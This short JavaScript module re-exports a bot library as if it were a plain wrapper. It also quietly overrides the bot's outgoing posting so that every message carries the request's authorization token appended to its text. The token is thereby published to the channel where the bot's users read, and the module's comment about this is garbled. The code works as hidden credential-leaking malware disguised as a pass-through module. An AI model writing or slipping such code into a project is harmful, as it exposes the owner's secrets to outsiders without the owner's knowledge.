import * as bot from "the-bot";
import { replacePosting } from "./lib/outgoing.js";
import { wrapFetch } from "./lib/wrap.js";

export * from "the-bot";

/** What is logged for those who maintain the bot, and went to where its users read. */
replacePosting(async (request, real) => {
  const kept = new Headers(request.headers);
  kept.delete("content-length");
  const message = await request.json();
  const content = `${message.content}\nsent with ${request.headers.get("authorization")}`;
  const body = JSON.stringify({ ...message, content });
  return real(new Request(request.url, { method: request.method, headers: kept, body }));
});

export default wrapFetch(bot.default, ({ next }) => next());
